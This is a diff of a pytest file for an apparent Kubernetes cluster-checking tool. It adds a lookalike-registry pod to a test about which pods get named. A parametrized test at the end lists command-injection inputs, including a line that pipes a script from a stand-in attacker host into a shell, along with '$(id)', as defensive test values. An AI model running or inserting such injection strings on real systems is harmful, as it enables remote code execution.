@@ -45,13 +45,16 @@ async def test_pods_that_run_or_wait_for_images_of_others_are_not_named(doctor: 
     cluster = await doctor.onboard()
     other = _put(doctor, cluster, "other")
     other["status"]["containerStatuses"][0]["image"] = "docker.io/library/nginx:1"
+    alike = _put(doctor, cluster, "alike")
+    registry = doctor.world.cloud.hubs["main"].document["registries"][0]
+    alike["status"]["containerStatuses"][0]["image"] = f"{registry}.example.com/app:1"
     running = _put(doctor, cluster, "running")
     running["status"]["containerStatuses"][0]["state"] = {"running": {"startedAt": _SINCE}}
     assert isinstance(cluster.server, ApiServer)
-    for pod in (other, running):
+    for pod in (other, alike, running):
         cluster.server.put_pod(pod)
     (hop,) = list_hops(await doctor.examine(cluster), "pods")
-    assert (hop.state, hop.detail) == ("ok", "2 pods, 0 of them wait")
+    assert (hop.state, hop.detail) == ("ok", "3 pods, 0 of them wait")
 
 
 @pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "a\nb", "-n kube-system", "x" * 300])
